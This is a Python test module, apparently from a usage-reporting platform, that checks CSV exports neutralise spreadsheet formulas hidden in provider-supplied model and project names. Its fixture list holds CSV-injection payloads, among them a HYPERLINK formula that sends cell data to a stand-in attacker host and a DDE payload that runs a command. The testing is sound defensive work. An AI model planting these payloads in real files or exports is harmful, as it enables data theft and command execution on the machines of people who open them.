"""Model and project names come from providers (and so from whoever controls a provider account): a name that a
spreadsheet would read as a formula is neutralised in every CSV the platform produces (OWASP, CSV injection:
a cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading ``'``)."""

from __future__ import annotations

import csv
import io
from datetime import date
from email.message import EmailMessage

import pytest

from devstack.tokens import mint_user_token
from shared.bootstrap import build_web_app
from shared.domain.usage.csv_safe import neutralise
from shared.domain.usage.records import Provider, TokenType
from shared.web.http import ApiRequest, Headers
from tests.conftest import TEST_PROJECT
from tests.support.connect_world import ENTERPRISE_ID, VIEWER_EMAIL
from tests.support.fake_reports import FakeBenchmarkStore, FakeReportLog
from tests.support.fakes import FixedClock
from tests.support.report_world import REPORT_MONTH, SENT_ON, ReportWorld
from tests.support.sync_world import SyncWorld
from tests.support.usage_days import line, provider_day, record

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1", "\r=1"]
DAY = date(2026, 10, 7)


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_cell_is_prefixed_with_a_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["gpt-4o", "-1.50", "+2", "1e-3", "", "proj_a", "a=b"])
def test_plain_values_and_numbers_are_unchanged(cell: str) -> None:
    assert neutralise(cell) == cell


@pytest.fixture(scope="module")
def world() -> SyncWorld:
    """One October day whose model and project names are formulas."""
    w = SyncWorld()
    p = Provider.OPENAI
    records = [
        record(p, DAY, FORMULAS[0], TokenType.UNCACHED_INPUT, 1_000_000, "2.50", project=FORMULAS[3]),
        record(p, DAY, FORMULAS[1], TokenType.OUTPUT, 100_000, "10", project=FORMULAS[2]),
    ]
    lines = [line(p, DAY, "2.00", model=FORMULAS[0], project=FORMULAS[3])]
    w.sources.serve(provider_day(p, DAY, records, lines))
    payload = {"enterprise_id": ENTERPRISE_ID, "start": "2026-10-07", "end": "2026-10-08", "reason": "backfill"}
    assert not w.run(payload, read_id="backfill").retry
    w.clock = FixedClock(SENT_ON)
    return w


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(text: str) -> None:
    cells = _cells(text)
    assert any(FORMULAS[0] in c for c in cells)  # the hostile name is there, as text
    dangerous = [c for c in cells if c[:1] in {"=", "+", "@", "\t", "\r"} or (c[:1] == "-" and not _number(c))]
    assert dangerous == []


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _get(app_name: str, world: SyncWorld, path: str, query: dict[str, list[str]]) -> str:
    app = build_web_app(
        app_name,
        enterprises=world.enterprises,
        snapshots=world.snapshots,
        benchmarks=FakeBenchmarkStore(),
        report_log=FakeReportLog(),
        clock=world.clock,
        coverage=world.coverage,
    )
    token = mint_user_token(VIEWER_EMAIL, TEST_PROJECT, now=SENT_ON.timestamp())
    response = app.handle(ApiRequest("GET", path, Headers({"Authorization": f"Bearer {token}"}), query, b""))
    assert response.status == 200, response.body
    return response.body.decode()


def test_usage_csv_has_no_formula_cells(world: SyncWorld) -> None:
    query = {"start": ["2026-10-01"], "end": ["2026-10-31"]}
    _assert_no_formula(_get("api", world, "/api/v1/enterprise/usage.csv", query))


def test_the_report_csv_has_no_formula_cells(world: SyncWorld) -> None:
    _assert_no_formula(_get("reports", world, f"/api/v1/enterprise/reports/{REPORT_MONTH}", {"format": ["csv"]}))


def test_the_emailed_csv_has_no_formula_cells(world: SyncWorld) -> None:
    reports = ReportWorld.__new__(ReportWorld)  # the use case's wiring, over this module's synced world
    reports.sync = world
    reports.benchmarks, reports.reports = FakeBenchmarkStore(), FakeReportLog()
    enterprise = world.enterprises.docs[ENTERPRISE_ID]
    world.enterprises.docs[ENTERPRISE_ID] = enterprise.model_copy(
        update={"settings": enterprise.settings.model_copy(update={"email_reports": True})}
    )
    reports.use_case().run(ENTERPRISE_ID, REPORT_MONTH)
    [mail] = world.mailer.sent
    [attachment] = [p for p in mail.iter_attachments() if p.get_content_type() == "text/csv"]
    assert isinstance(attachment, EmailMessage)
    _assert_no_formula(attachment.get_content())
